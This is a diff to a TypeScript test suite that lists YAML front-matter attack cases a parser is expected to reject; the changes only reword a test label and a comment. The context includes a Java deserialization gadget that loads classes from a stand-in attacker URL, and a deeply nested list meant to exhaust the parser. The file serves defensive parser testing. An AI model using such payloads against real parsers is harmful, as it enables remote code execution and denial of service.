@@ -59,7 +59,7 @@ export const YAML: AttackClass = {
       'error',
       'publisher: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["https://attacker.invalid/"]]]]',
     ),
-    yaml('A tag is of nobody', 'error', 'publisher: !x y'),
+    yaml('A tag does not exist', 'error', 'publisher: !x y'),
     yaml('A tag has no name', 'error', 'publisher: !<> y'),
     title('A tag makes bytes of a title', 'error', '!!binary aGk='),
     title('A tag makes a set of a title', 'error', '!!set {x: }'),
@@ -149,7 +149,7 @@ export const YAML: AttackClass = {
     only('The front matter is a list that breaks off', 'error', 'title: [x'),
     only('The front matter has an escape that is none', 'error', String.raw`title: "\q"`),
     only('The front matter is empty', 'error', ''),
-    // Beyond the limits it is no front matter, but text.
+    // Beyond the limits it is not front matter, but text.
     {
       ...yaml('Lists are nested ten thousand deep', 'error', `x: ${'['.repeat(10_000)}${']'.repeat(10_000)}`),
       mayFail: true,
